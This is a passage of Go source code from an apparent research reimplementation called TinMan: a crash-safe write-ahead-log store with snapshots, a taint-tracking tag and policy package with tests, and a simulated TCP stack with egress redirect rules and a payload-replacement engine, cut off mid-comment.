	// 2. Replay segments above the snapshot horizon.
	segs := segStarts(names)
	lastLSN := s.snapLSN
	tornSeg, tornOff, lastSize := "", -1, 0
	for i, first := range segs {
		name := filepath.Join(s.dir, segName(first))
		data, err := s.fs.ReadFile(name)
		if err != nil {
			return err
		}
		last := i == len(segs)-1
		off := 0
		for off < len(data) {
			typ, lsn, payload, next, ferr := readFrame(data, off)
			if ferr != nil || typ == recSnapHdr || typ == recSnapEnd {
				if !last {
					return fmt.Errorf("store: bad frame at %s+%d in a non-final segment: %w", segName(first), off, ErrCorrupt)
				}
				tornSeg, tornOff = name, off
				break
			}
			if lsn > s.snapLSN {
				if lsn != lastLSN+1 {
					return fmt.Errorf("store: LSN gap in %s: have %d, want %d: %w", segName(first), lsn, lastLSN+1, ErrCorrupt)
				}
				if err := s.applyReplay(typ, payload); err != nil {
					return err
				}
				lastLSN = lsn
			}
			off = next
		}
		if last {
			if tornOff >= 0 {
				lastSize = tornOff
			} else {
				lastSize = len(data)
			}
		}
	}
	s.nextLSN = lastLSN
	s.durableLSN = lastLSN
	s.waterLSN = lastLSN
	if s.opts.ReadOnly {
		return nil
	}

	// 3. Repair: drop stray tmp files and invalid snapshots, truncate the
	// torn tail. All idempotent — a crash mid-recovery re-runs them.
	cleaned := false
	for _, name := range names {
		if strings.HasSuffix(name, ".tmp") {
			if err := s.fs.Remove(filepath.Join(s.dir, name)); err != nil {
				return err
			}
			cleaned = true
		}
	}
	for _, name := range invalidSnaps {
		if err := s.fs.Remove(filepath.Join(s.dir, name)); err != nil {
			return err
		}
		cleaned = true
	}
	if cleaned {
		if err := s.fs.SyncDir(s.dir); err != nil {
			return err
		}
	}
	if tornOff >= 0 {
		f, err := s.fs.OpenFile(tornSeg, os.O_WRONLY, 0o600)
		if err != nil {
			return err
		}
		if err := f.Truncate(int64(tornOff)); err != nil {
			f.Close()
			return err
		}
		if err := f.Sync(); err != nil {
			f.Close()
			return err
		}
		if err := f.Close(); err != nil {
			return err
		}
	}

	// 4. Open the active segment (the last one), or create the first.
	if len(segs) == 0 {
		return s.openSegment(lastLSN + 1)
	}
	name := filepath.Join(s.dir, segName(segs[len(segs)-1]))
	f, err := s.fs.OpenFile(name, os.O_WRONLY|os.O_APPEND, 0o600)
	if err != nil {
		return err
	}
	s.seg, s.segName, s.segSize = f, name, int64(lastSize)
	return nil
}

// applyReplay decodes one WAL record and folds it into the state.
func (s *Store) applyReplay(typ byte, payload []byte) error {
	val, err := s.decodeRecord(typ, payload)
	if err != nil {
		return err
	}
	if val != nil {
		s.applyLocked(val) // single-threaded during recovery
	}
	return nil
}

// decodeRecord turns a frame payload into its typed value; nil means
// "skip" (a sealed vault record without a passphrase).
func (s *Store) decodeRecord(typ byte, payload []byte) (any, error) {
	switch typ {
	case recAudit:
		e, err := decodeAudit(payload)
		if err != nil {
			return nil, fmt.Errorf("%v: %w", err, ErrCorrupt)
		}
		return e, nil
	case recVault:
		if s.sealer == nil {
			s.state.SealedVault++
			return nil, nil
		}
		plain, err := s.sealer.Open(payload, vaultAD)
		if err != nil {
			return nil, err // wraps cor.ErrVaultCorrupt
		}
		r, err := decodeVault(plain)
		if err != nil {
			return nil, fmt.Errorf("store: vault record unparsable: %v: %w", err, ErrCorrupt)
		}
		return r, nil
	case recPolicy:
		op, err := decodePolicy(payload)
		if err != nil {
			return nil, fmt.Errorf("store: policy record unparsable: %v: %w", err, ErrCorrupt)
		}
		return op, nil
	}
	return nil, fmt.Errorf("store: unexpected record type %d: %w", typ, ErrCorrupt)
}

// loadSnapshot parses one snapshot file into s.state. ok is false when the
// file is structurally invalid (torn write — the caller falls back to an
// older snapshot); err is reserved for hard failures like a sealed record
// that fails authentication.
func (s *Store) loadSnapshot(path string, covered uint64) (ok bool, err error) {
	data, rerr := s.fs.ReadFile(path)
	if rerr != nil {
		if errors.Is(rerr, iofs.ErrNotExist) {
			return false, nil
		}
		return false, rerr
	}
	// Structural validation pass first: only a snapshot terminated by its
	// recSnapEnd frame may mutate state.
	type rec struct {
		typ     byte
		payload []byte
	}
	var recs []rec
	off, seenEnd := 0, false
	for off < len(data) {
		typ, lsn, payload, next, ferr := readFrame(data, off)
		if ferr != nil {
			return false, nil
		}
		switch {
		case off == 0:
			if typ != recSnapHdr || lsn != covered {
				return false, nil
			}
		case typ == recSnapEnd:
			if lsn != covered || next != len(data) {
				return false, nil
			}
			seenEnd = true
		case typ == recSnapHdr:
			return false, nil
		default:
			recs = append(recs, rec{typ, payload})
		}
		off = next
	}
	if !seenEnd {
		return false, nil
	}
	for _, r := range recs {
		val, derr := s.decodeRecord(r.typ, r.payload)
		if derr != nil {
			return false, derr
		}
		if val != nil {
			s.applyLocked(val)
		}
	}
	return true, nil
}
