package store

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"

	"tinman/internal/audit"
)

// snapHeader is the JSON payload of a snapshot's recSnapHdr frame.
type snapHeader struct {
	Covered uint64 `json:"covered_lsn"`
	Audit   int    `json:"audit"`
	Vault   int    `json:"vault"`
	Policy  int    `json:"policy"`
}

func snapName(covered uint64) string { return fmt.Sprintf("snap-%016x.db", covered) }
func segName(first uint64) string    { return fmt.Sprintf("wal-%016x.log", first) }

// parseLSNName extracts the hex LSN from "prefix-%016x.suffix" names;
// ok is false for anything else (including .tmp leftovers).
func parseLSNName(name, prefix, suffix string) (uint64, bool) {
	if !strings.HasPrefix(name, prefix) || !strings.HasSuffix(name, suffix) {
		return 0, false
	}
	hex := name[len(prefix) : len(name)-len(suffix)]
	if len(hex) != 16 {
		return 0, false
	}
	var v uint64
	if _, err := fmt.Sscanf(hex, "%016x", &v); err != nil {
		return 0, false
	}
	return v, true
}

// Snapshot writes the current durable state to a new snapshot file and
// compacts the log: the active segment is rotated, every WAL segment whose
// records are all covered is deleted, and older snapshots are removed.
//
// The ordering makes every crash window safe: the snapshot becomes durable
// (tmp write → file sync → rename → dir sync) before any log state is
// touched, so a crash between snapshot write and WAL truncation recovers
// from the new snapshot and simply skips the already-covered WAL records;
// a crash while deletes are pending resurrects some covered segments,
// which the next compaction removes again.
func (s *Store) Snapshot() error {
	if s.opts.ReadOnly {
		return ErrReadOnly
	}
	s.commitMu.Lock()
	defer s.commitMu.Unlock()
	return s.snapshotLocked()
}

func (s *Store) snapshotLocked() error {
	s.stateMu.Lock()
	covered := s.durableLSN
	already := s.snapLSN
	st := State{
		Audit:  append([]audit.Entry(nil), s.state.Audit...),
		Vault:  append([]VaultRecord(nil), s.state.Vault...),
		Policy: append([]PolicyOp(nil), s.state.Policy...),
	}
	s.stateMu.Unlock()
	if covered == already {
		return nil // nothing new to cover
	}

	hdr, err := json.Marshal(snapHeader{
		Covered: covered, Audit: len(st.Audit), Vault: len(st.Vault), Policy: len(st.Policy),
	})
	if err != nil {
		return err
	}
	buf := appendFrame(nil, recSnapHdr, covered, hdr)
	scratch := make([]byte, 0, 256)
	for _, e := range st.Audit {
		scratch = encodeAudit(scratch[:0], e)
		buf = appendFrame(buf, recAudit, 0, scratch)
	}
	for _, r := range st.Vault {
		plain, err := encodeVault(r)
		if err != nil {
			return err
		}
		sealed, err := s.sealer.Seal(plain, vaultAD)
		if err != nil {
			return err
		}
		buf = appendFrame(buf, recVault, 0, sealed)
	}
	for _, op := range st.Policy {
		p, err := encodePolicy(op)
		if err != nil {
			return err
		}
		buf = appendFrame(buf, recPolicy, 0, p)
	}
	buf = appendFrame(buf, recSnapEnd, covered, nil)

	final := filepath.Join(s.dir, snapName(covered))
	tmp := final + ".tmp"
	f, err := s.fs.OpenFile(tmp, os.O_WRONLY|os.O_CREATE|os.O_TRUNC, 0o600)
	if err != nil {
		return err
	}
	if _, err := f.Write(buf); err != nil {
		f.Close()
		return err
	}
	if err := f.Sync(); err != nil {
		f.Close()
		return err
	}
	if err := f.Close(); err != nil {
		return err
	}
	if err := s.fs.Rename(tmp, final); err != nil {
		return err
	}
	// The snapshot is durable from here on.
	if err := s.fs.SyncDir(s.dir); err != nil {
		return err
	}
	s.stateMu.Lock()
	s.snapLSN = covered
	s.stateMu.Unlock()
	s.sinceSnap = 0
	s.statMu.Lock()
	s.stats.Snapshots++
	s.statMu.Unlock()

	// Compact: rotate the active segment so everything covered lives in
	// closed segments, then drop covered segments and superseded snapshots.
	if err := s.seg.Sync(); err != nil {
		return err
	}
	if err := s.seg.Close(); err != nil {
		return err
	}
	if err := s.openSegment(covered + 1); err != nil {
		return err
	}
	names, err := s.fs.ReadDirNames(s.dir)
	if err != nil {
		return err
	}
	segs := segStarts(names)
	removed := false
	for i, first := range segs {
		// A segment's records end where the next segment starts; the last
		// listed segment is the new active one (first = covered+1).
		if i+1 < len(segs) && segs[i+1] <= covered+1 {
			if err := s.fs.Remove(filepath.Join(s.dir, segName(first))); err != nil {
				return err
			}
			removed = true
		}
	}
	for _, name := range names {
		if lsn, ok := parseLSNName(name, "snap-", ".db"); ok && lsn < covered {
			if err := s.fs.Remove(filepath.Join(s.dir, name)); err != nil {
				return err
			}
			removed = true
		}
	}
	if removed {
		if err := s.fs.SyncDir(s.dir); err != nil {
			return err
		}
	}
	return nil
}

// segStarts extracts the sorted first-LSNs of the WAL segments among names
// (ReadDirNames returns sorted names, and the fixed-width hex sorts
// numerically).
func segStarts(names []string) []uint64 {
	var out []uint64
	for _, name := range names {
		if first, ok := parseLSNName(name, "wal-", ".log"); ok {
			out = append(out, first)
		}
	}
	return out
}
