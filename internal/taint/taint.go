// Package taint implements TinMan's taint-tracking model (§3.5).
//
// A taint tag is a set of cor identities carried alongside every value in
// the VM. Propagation is classified into the paper's four data-movement
// classes — heap→heap, heap→stack, stack→stack and stack→heap — and a
// Policy selects which classes are instrumented:
//
//   - the trusted node runs the Full policy (all four classes, TaintDroid
//     equivalent), keeping tag precision;
//   - the mobile device runs the Asymmetric policy, which tracks only
//     heap→heap and heap→stack. Because the VM forces every datum through a
//     heap→stack move before it can be computed on, the device can trigger
//     offloading at that moment and never needs the two stack-involved
//     classes, which are by far the most frequent (every arithmetic op is
//     stack→stack).
package taint

import (
	"fmt"
	"math/bits"
	"strconv"
	"strings"
)

// Tag is a set of cor identities, represented as a 64-bit set. Each
// registered cor occupies one bit; a VM therefore tracks at most 64 distinct
// cors simultaneously, which comfortably exceeds the "typically fewer than
// five passwords per user" the paper cites (§5.4).
type Tag uint64

// None is the empty tag: untainted data.
const None Tag = 0

// Bit returns the tag with only bit i set. It panics if i is out of range;
// cor registration enforces the limit before minting bits.
func Bit(i int) Tag {
	if i < 0 || i > 63 {
		panic(fmt.Sprintf("taint: bit %d out of range [0,63]", i))
	}
	return Tag(1) << uint(i)
}

// Union merges two tags.
func (t Tag) Union(o Tag) Tag { return t | o }

// Has reports whether every bit of o is present in t.
func (t Tag) Has(o Tag) bool { return t&o == o }

// Overlaps reports whether t and o share any bit.
func (t Tag) Overlaps(o Tag) bool { return t&o != 0 }

// Empty reports whether the tag carries no taint.
func (t Tag) Empty() bool { return t == 0 }

// Count returns the number of distinct cor bits in the tag.
func (t Tag) Count() int { return bits.OnesCount64(uint64(t)) }

// Bits returns the indices of the set bits in ascending order. It walks
// only the set bits (TrailingZeros per bit) rather than scanning all 64
// positions, since tags are usually sparse — a handful of cors at most.
func (t Tag) Bits() []int {
	if t == 0 {
		return nil
	}
	out := make([]int, 0, t.Count())
	for rest := uint64(t); rest != 0; rest &= rest - 1 {
		out = append(out, bits.TrailingZeros64(rest))
	}
	return out
}

// String renders the tag for logs and test failures. Bits appear in
// ascending numeric order (Bits() is already sorted; sorting the decimal
// strings here used to render taint{2,10} as taint{10,2}).
func (t Tag) String() string {
	if t == 0 {
		return "taint{}"
	}
	parts := make([]string, 0, t.Count())
	for _, b := range t.Bits() {
		parts = append(parts, strconv.Itoa(b))
	}
	return "taint{" + strings.Join(parts, ",") + "}"
}

// Event classifies a single taint-relevant data movement (Table 2 of the
// paper).
type Event uint8

const (
	// HeapToHeap covers object clone, arraycopy and similar operations that
	// move data between heap objects without touching the stack.
	HeapToHeap Event = iota
	// HeapToStack covers field/array/string reads into a register (GET).
	HeapToStack
	// StackToStack covers register-to-register moves and arithmetic.
	StackToStack
	// StackToHeap covers field/array writes from a register (PUT).
	StackToHeap
	numEvents
)

// NumEvents is the number of distinct propagation classes.
const NumEvents = int(numEvents)

var eventNames = [...]string{
	HeapToHeap:   "heap-to-heap",
	HeapToStack:  "heap-to-stack",
	StackToStack: "stack-to-stack",
	StackToHeap:  "stack-to-heap",
}

func (e Event) String() string {
	if int(e) < len(eventNames) {
		return eventNames[e]
	}
	return fmt.Sprintf("taint.Event(%d)", uint8(e))
}

// Policy selects which propagation classes are instrumented.
type Policy struct {
	name  string
	track [numEvents]bool
}

// Name returns the policy's human-readable name.
func (p Policy) Name() string { return p.name }

// Tracks reports whether the policy propagates tags for the given class.
func (p Policy) Tracks(e Event) bool { return p.track[e] }

// Predefined policies.
var (
	// Off disables tainting entirely (the paper's unmodified-Android
	// baseline in Fig 13).
	Off = Policy{name: "off"}

	// Full tracks all four classes; this is the TaintDroid-equivalent
	// configuration the trusted node runs, and the "full-fledged tainting on
	// the client" comparison point in Fig 13.
	Full = Policy{
		name:  "full",
		track: [numEvents]bool{HeapToHeap: true, HeapToStack: true, StackToStack: true, StackToHeap: true},
	}

	// Asymmetric is the device-side optimization: only heap→heap and
	// heap→stack are tracked. Tainted heap→stack reads trigger offloading,
	// so tainted data never reaches stack-to-stack or stack-to-heap moves on
	// the device.
	Asymmetric = Policy{
		name:  "asymmetric",
		track: [numEvents]bool{HeapToHeap: true, HeapToStack: true},
	}
)

// PolicyByName resolves a policy from its name ("off", "full",
// "asymmetric"); it is used by command-line harnesses.
func PolicyByName(name string) (Policy, error) {
	switch name {
	case Off.name:
		return Off, nil
	case Full.name:
		return Full, nil
	case Asymmetric.name:
		return Asymmetric, nil
	}
	return Policy{}, fmt.Errorf("taint: unknown policy %q", name)
}

// Counters tallies propagation events per class; the VM updates it so that
// experiments can report the class mix (the paper observes stack-to-stack
// dominates, which is why skipping it on the device pays).
type Counters struct {
	ByEvent [numEvents]uint64
	// Triggered counts tainted heap→stack reads that fired the offload hook.
	Triggered uint64
}

// Add records one event of class e.
func (c *Counters) Add(e Event) { c.ByEvent[e]++ }

// Total returns the sum across classes.
func (c *Counters) Total() uint64 {
	var t uint64
	for _, v := range c.ByEvent {
		t += v
	}
	return t
}

// String summarizes the counters.
func (c *Counters) String() string {
	return fmt.Sprintf("h2h=%d h2s=%d s2s=%d s2h=%d triggered=%d",
		c.ByEvent[HeapToHeap], c.ByEvent[HeapToStack], c.ByEvent[StackToStack], c.ByEvent[StackToHeap], c.Triggered)
}
