package taint

import (
	"testing"
	"testing/quick"
)

func TestBit(t *testing.T) {
	if Bit(0) != 1 {
		t.Fatalf("Bit(0) = %v", Bit(0))
	}
	if Bit(63) != 1<<63 {
		t.Fatalf("Bit(63) = %v", Bit(63))
	}
}

func TestBitOutOfRangePanics(t *testing.T) {
	for _, i := range []int{-1, 64, 100} {
		func() {
			defer func() {
				if recover() == nil {
					t.Errorf("Bit(%d) should panic", i)
				}
			}()
			Bit(i)
		}()
	}
}

func TestUnionHasOverlaps(t *testing.T) {
	a, b := Bit(1), Bit(2)
	u := a.Union(b)
	if !u.Has(a) || !u.Has(b) {
		t.Fatal("union lost a member")
	}
	if !u.Overlaps(a) || a.Overlaps(b) {
		t.Fatal("overlap semantics wrong")
	}
	if !None.Empty() || u.Empty() {
		t.Fatal("emptiness wrong")
	}
	if u.Count() != 2 {
		t.Fatalf("count = %d, want 2", u.Count())
	}
}

func TestBitsRoundTrip(t *testing.T) {
	tag := Bit(0).Union(Bit(5)).Union(Bit(63))
	got := tag.Bits()
	want := []int{0, 5, 63}
	if len(got) != len(want) {
		t.Fatalf("bits = %v", got)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("bits = %v, want %v", got, want)
		}
	}
}

func TestString(t *testing.T) {
	if None.String() != "taint{}" {
		t.Fatalf("None.String() = %q", None.String())
	}
	if s := Bit(3).Union(Bit(1)).String(); s != "taint{1,3}" {
		t.Fatalf("String() = %q", s)
	}
}

func TestPolicies(t *testing.T) {
	cases := []struct {
		p    Policy
		want [NumEvents]bool
	}{
		{Off, [NumEvents]bool{}},
		{Full, [NumEvents]bool{true, true, true, true}},
		{Asymmetric, [NumEvents]bool{HeapToHeap: true, HeapToStack: true}},
	}
	for _, c := range cases {
		for e := 0; e < NumEvents; e++ {
			if got := c.p.Tracks(Event(e)); got != c.want[e] {
				t.Errorf("%s.Tracks(%v) = %v, want %v", c.p.Name(), Event(e), got, c.want[e])
			}
		}
	}
}

func TestAsymmetricSkipsStackClasses(t *testing.T) {
	// The defining property of the optimization (§3.5): the device never
	// instruments the two stack-involved classes.
	if Asymmetric.Tracks(StackToStack) || Asymmetric.Tracks(StackToHeap) {
		t.Fatal("asymmetric policy must not track stack-to-stack or stack-to-heap")
	}
	if !Asymmetric.Tracks(HeapToStack) || !Asymmetric.Tracks(HeapToHeap) {
		t.Fatal("asymmetric policy must track heap-to-heap and heap-to-stack")
	}
}

func TestPolicyByName(t *testing.T) {
	for _, name := range []string{"off", "full", "asymmetric"} {
		p, err := PolicyByName(name)
		if err != nil || p.Name() != name {
			t.Fatalf("PolicyByName(%q) = %v, %v", name, p.Name(), err)
		}
	}
	if _, err := PolicyByName("bogus"); err == nil {
		t.Fatal("expected error for unknown policy")
	}
}

func TestCounters(t *testing.T) {
	var c Counters
	c.Add(StackToStack)
	c.Add(StackToStack)
	c.Add(HeapToStack)
	if c.Total() != 3 {
		t.Fatalf("total = %d, want 3", c.Total())
	}
	if c.ByEvent[StackToStack] != 2 {
		t.Fatalf("s2s = %d, want 2", c.ByEvent[StackToStack])
	}
	if c.String() == "" {
		t.Fatal("empty String()")
	}
}

func TestEventString(t *testing.T) {
	names := map[Event]string{
		HeapToHeap:   "heap-to-heap",
		HeapToStack:  "heap-to-stack",
		StackToStack: "stack-to-stack",
		StackToHeap:  "stack-to-heap",
	}
	for e, want := range names {
		if e.String() != want {
			t.Errorf("%d.String() = %q, want %q", e, e.String(), want)
		}
	}
	if Event(200).String() == "" {
		t.Error("out-of-range event should still render")
	}
}

// Properties of the tag algebra.
func TestTagAlgebraProperties(t *testing.T) {
	// Union is commutative, associative, idempotent; Has is reflexive over
	// unions.
	comm := func(a, b uint64) bool { return Tag(a).Union(Tag(b)) == Tag(b).Union(Tag(a)) }
	assoc := func(a, b, c uint64) bool {
		return Tag(a).Union(Tag(b)).Union(Tag(c)) == Tag(a).Union(Tag(b).Union(Tag(c)))
	}
	idem := func(a uint64) bool { return Tag(a).Union(Tag(a)) == Tag(a) }
	hasBoth := func(a, b uint64) bool {
		u := Tag(a).Union(Tag(b))
		return u.Has(Tag(a)) && u.Has(Tag(b))
	}
	countMono := func(a, b uint64) bool {
		u := Tag(a).Union(Tag(b))
		return u.Count() >= Tag(a).Count() && u.Count() >= Tag(b).Count()
	}
	for name, fn := range map[string]any{
		"commutative": comm, "associative": assoc, "idempotent": idem,
		"hasBoth": hasBoth, "countMonotone": countMono,
	} {
		if err := quick.Check(fn, nil); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}
