package tcpsim

import (
	"encoding/binary"
	"fmt"
)

// Verdict is a filter rule's action.
type Verdict uint8

const (
	// VerdictPass lets the segment continue normally.
	VerdictPass Verdict = iota
	// VerdictRedirect encapsulates the segment and ships it to another host
	// (the device's iptables rule redirecting marked packets to the trusted
	// node, §3.6).
	VerdictRedirect
	// VerdictDrop silently discards the segment.
	VerdictDrop
)

// FilterRule is an egress filter entry.
type FilterRule struct {
	Name string
	// Match inspects the outbound segment with its source and destination
	// addresses.
	Match func(seg *Segment, src, dst string) bool
	// Verdict applies when Match returns true.
	Verdict Verdict
	// RedirectTo names the target host for VerdictRedirect.
	RedirectTo string
}

// AddEgressRule installs a rule; rules apply in installation order, first
// match wins.
func (st *Stack) AddEgressRule(r *FilterRule) error {
	if r.Match == nil {
		return fmt.Errorf("tcpsim: filter rule %q has no matcher", r.Name)
	}
	if r.Verdict == VerdictRedirect && r.RedirectTo == "" {
		return fmt.Errorf("tcpsim: redirect rule %q has no target", r.Name)
	}
	st.egress = append(st.egress, r)
	return nil
}

// RemoveEgressRule deletes rules by name and reports how many were removed.
func (st *Stack) RemoveEgressRule(name string) int {
	keep := st.egress[:0]
	removed := 0
	for _, r := range st.egress {
		if r.Name == name {
			removed++
			continue
		}
		keep = append(keep, r)
	}
	st.egress = keep
	return removed
}

// MarkedRecordRule builds the TinMan capture rule: match segments whose TCP
// payload begins with a TLS record of the given type byte (the modified SSL
// library writes a reserved value into the record type field precisely so
// this match needs no decryption, §3.6).
func MarkedRecordRule(markType byte, redirectTo string) *FilterRule {
	return &FilterRule{
		Name: fmt.Sprintf("tinman-cor-mark-%#02x", markType),
		Match: func(seg *Segment, src, dst string) bool {
			return len(seg.Payload) > 0 && seg.Payload[0] == markType
		},
		Verdict:    VerdictRedirect,
		RedirectTo: redirectTo,
	}
}

// --- redirect encapsulation ---

// encapMagic prefixes redirected packets so the replacement engine (and the
// TCP demultiplexer, which must ignore them) can recognize them.
var encapMagic = [4]byte{'R', 'D', 'I', 'R'}

// encapsulate wraps an outbound segment with its original addressing.
func encapsulate(origSrc, origDst string, seg *Segment) []byte {
	segBytes := seg.Encode(origSrc, origDst)
	buf := make([]byte, 0, 4+4+len(origSrc)+len(origDst)+len(segBytes))
	buf = append(buf, encapMagic[:]...)
	var tmp [2]byte
	binary.BigEndian.PutUint16(tmp[:], uint16(len(origSrc)))
	buf = append(buf, tmp[:]...)
	buf = append(buf, origSrc...)
	binary.BigEndian.PutUint16(tmp[:], uint16(len(origDst)))
	buf = append(buf, tmp[:]...)
	buf = append(buf, origDst...)
	buf = append(buf, segBytes...)
	return buf
}

// isEncap reports whether a payload is a redirected encapsulation.
func isEncap(b []byte) bool {
	return len(b) >= 4 && b[0] == 'R' && b[1] == 'D' && b[2] == 'I' && b[3] == 'R'
}

// decapsulate recovers the original addressing and segment.
func decapsulate(b []byte) (origSrc, origDst string, seg *Segment, err error) {
	if !isEncap(b) {
		return "", "", nil, fmt.Errorf("tcpsim: not an encapsulated redirect")
	}
	b = b[4:]
	readStr := func() (string, error) {
		if len(b) < 2 {
			return "", fmt.Errorf("tcpsim: truncated encapsulation")
		}
		n := int(binary.BigEndian.Uint16(b))
		b = b[2:]
		if len(b) < n {
			return "", fmt.Errorf("tcpsim: truncated encapsulated address")
		}
		s := string(b[:n])
		b = b[n:]
		return s, nil
	}
	if origSrc, err = readStr(); err != nil {
		return "", "", nil, err
	}
	if origDst, err = readStr(); err != nil {
		return "", "", nil, err
	}
	seg, err = DecodeSegment(origSrc, origDst, b)
	if err != nil {
		return "", "", nil, err
	}
	return origSrc, origDst, seg, nil
}
