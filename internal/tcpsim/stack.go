package tcpsim

import (
	"fmt"
	"sort"
	"time"

	"tinman/internal/netsim"
)

// State is a TCP connection state (reduced set).
type State uint8

const (
	StateClosed State = iota
	StateListen
	StateSynSent
	StateSynReceived
	StateEstablished
	StateFinWait
	StateCloseWait
)

var stateNames = [...]string{
	StateClosed: "closed", StateListen: "listen", StateSynSent: "syn-sent",
	StateSynReceived: "syn-received", StateEstablished: "established",
	StateFinWait: "fin-wait", StateCloseWait: "close-wait",
}

func (s State) String() string {
	if int(s) < len(stateNames) {
		return stateNames[s]
	}
	return fmt.Sprintf("State(%d)", uint8(s))
}

// connKey identifies a connection from the local stack's perspective.
type connKey struct {
	localPort  uint16
	remoteAddr string
	remotePort uint16
}

// Stack is one host's TCP endpoint.
type Stack struct {
	net       *netsim.Net
	host      *netsim.Host
	listeners map[uint16]*Listener
	conns     map[connKey]*Conn
	egress    []*FilterRule
	nextPort  uint16
	// RetransmitTimeout configures the (single) retransmission timer.
	RetransmitTimeout time.Duration
	// Segments counts sent segments for stats.
	Segments uint64
}

// NewStack attaches a TCP stack to the host, taking over its packet handler.
func NewStack(n *netsim.Net, host *netsim.Host) *Stack {
	st := &Stack{
		net:               n,
		host:              host,
		listeners:         make(map[uint16]*Listener),
		conns:             make(map[connKey]*Conn),
		nextPort:          40000,
		RetransmitTimeout: time.Second,
	}
	host.Handle(st.onPacket)
	return st
}

// Host returns the underlying netsim host.
func (st *Stack) Host() *netsim.Host { return st.host }

// Net returns the simulation universe.
func (st *Stack) Net() *netsim.Net { return st.net }

// Listener accepts inbound connections on a port.
type Listener struct {
	stack   *Stack
	port    uint16
	backlog []*Conn
	// OnAccept, when set, is invoked for each newly established inbound
	// connection instead of queuing it in the backlog.
	OnAccept func(*Conn)
}

// Listen opens a listening port.
func (st *Stack) Listen(port uint16) (*Listener, error) {
	if _, dup := st.listeners[port]; dup {
		return nil, fmt.Errorf("tcpsim: %s: port %d already listening", st.host.Addr(), port)
	}
	l := &Listener{stack: st, port: port}
	st.listeners[port] = l
	return l, nil
}

// Accept dequeues an established inbound connection, or nil.
func (l *Listener) Accept() *Conn {
	if len(l.backlog) == 0 {
		return nil
	}
	c := l.backlog[0]
	l.backlog = l.backlog[1:]
	return c
}

// Close stops listening.
func (l *Listener) Close() { delete(l.stack.listeners, l.port) }

// Dial starts a connection to remoteAddr:port. The returned Conn is in
// SynSent; run the simulation until Established() before writing.
func (st *Stack) Dial(remoteAddr string, port uint16) (*Conn, error) {
	localPort := st.allocPort()
	key := connKey{localPort: localPort, remoteAddr: remoteAddr, remotePort: port}
	if _, dup := st.conns[key]; dup {
		return nil, fmt.Errorf("tcpsim: connection %v already exists", key)
	}
	isn := uint32(st.net.Rand().Int63n(1 << 30))
	c := &Conn{
		stack:      st,
		key:        key,
		state:      StateSynSent,
		sndNxt:     isn,
		sndUna:     isn,
		remoteAddr: remoteAddr,
	}
	st.conns[key] = c
	c.sendFlags(FlagSYN, nil)
	return c, nil
}

func (st *Stack) allocPort() uint16 {
	for {
		st.nextPort++
		if st.nextPort < 40000 {
			st.nextPort = 40000
		}
		p := st.nextPort
		used := false
		for k := range st.conns {
			if k.localPort == p {
				used = true
				break
			}
		}
		if !used {
			return p
		}
	}
}

// onPacket demultiplexes inbound packets to connections and listeners.
func (st *Stack) onPacket(pkt *netsim.Packet) {
	// Redirected encapsulated packets are not TCP for us; a Replacer host
	// installs its own handler, so arriving here means misdelivery: drop.
	if isEncap(pkt.Payload) {
		return
	}
	seg, err := DecodeSegment(pkt.Src, pkt.Dst, pkt.Payload)
	if err != nil {
		return // corrupt segments are dropped silently, as in real TCP
	}
	key := connKey{localPort: seg.DstPort, remoteAddr: pkt.Src, remotePort: seg.SrcPort}
	if c, ok := st.conns[key]; ok {
		c.handleSegment(seg)
		return
	}
	if l, ok := st.listeners[seg.DstPort]; ok && seg.Flags&FlagSYN != 0 && seg.Flags&FlagACK == 0 {
		st.acceptSyn(l, pkt.Src, seg)
		return
	}
	// No socket: answer non-RST segments with RST.
	if seg.Flags&FlagRST == 0 {
		rst := &Segment{
			SrcPort: seg.DstPort, DstPort: seg.SrcPort,
			Seq: seg.Ack, Ack: seg.Seq + 1, Flags: FlagRST | FlagACK,
		}
		st.sendSegment(pkt.Src, rst)
	}
}

// acceptSyn creates the passive side of a connection.
func (st *Stack) acceptSyn(l *Listener, remoteAddr string, syn *Segment) {
	key := connKey{localPort: syn.DstPort, remoteAddr: remoteAddr, remotePort: syn.SrcPort}
	isn := uint32(st.net.Rand().Int63n(1 << 30))
	c := &Conn{
		stack:      st,
		key:        key,
		state:      StateSynReceived,
		sndNxt:     isn,
		sndUna:     isn,
		rcvNxt:     syn.Seq + 1,
		remoteAddr: remoteAddr,
		listener:   l,
	}
	st.conns[key] = c
	c.sendFlags(FlagSYN|FlagACK, nil)
}

// sendSegment applies egress filtering and transmits.
func (st *Stack) sendSegment(dst string, seg *Segment) {
	st.Segments++
	for _, rule := range st.egress {
		if !rule.Match(seg, st.host.Addr(), dst) {
			continue
		}
		switch rule.Verdict {
		case VerdictDrop:
			return
		case VerdictRedirect:
			// Encapsulate the original packet so the replacement engine can
			// recover the intended destination (§3.3 step 3).
			enc := encapsulate(st.host.Addr(), dst, seg)
			st.host.Send(&netsim.Packet{Dst: rule.RedirectTo, Payload: enc})
			return
		}
	}
	buf := seg.Encode(st.host.Addr(), dst)
	// Errors (no route) surface as silent drops, like a black-holed packet;
	// retransmission logic deals with the fallout.
	_ = st.host.Send(&netsim.Packet{Dst: dst, Payload: buf})
}

// Conns returns the number of live connections (diagnostics).
func (st *Stack) Conns() int { return len(st.conns) }

// AbortAll resets every connection on the stack, modeling the TCP state
// loss of a host crash or reboot: peers of established connections get a
// RST, pending retransmission timers die with their connections.
// Iteration is in sorted key order so simulations stay deterministic.
func (st *Stack) AbortAll() {
	keys := make([]connKey, 0, len(st.conns))
	for k := range st.conns {
		keys = append(keys, k)
	}
	sort.Slice(keys, func(i, j int) bool {
		a, b := keys[i], keys[j]
		if a.localPort != b.localPort {
			return a.localPort < b.localPort
		}
		if a.remoteAddr != b.remoteAddr {
			return a.remoteAddr < b.remoteAddr
		}
		return a.remotePort < b.remotePort
	})
	for _, k := range keys {
		if c, ok := st.conns[k]; ok {
			c.Abort()
		}
	}
}
