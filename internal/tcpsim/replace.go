package tcpsim

import (
	"fmt"

	"tinman/internal/netsim"
	"tinman/internal/obs"
)

// Replacer is the trusted node's payload-replacement engine (§3.3, fig 8).
// It receives redirected, encapsulated segments, asks the Rewrite hook for a
// substitute payload (the cor-bearing ciphertext sealed with the injected
// SSL session), and forwards the reframed segment to the original
// destination with the original TCP header — source address included, which
// is why the trusted node's host must not egress-filter (§5.4).
type Replacer struct {
	host *netsim.Host
	// Rewrite maps the captured payload to its replacement. The returned
	// payload must have exactly the original length: TCP sequence numbers
	// on both sides already account for the original bytes.
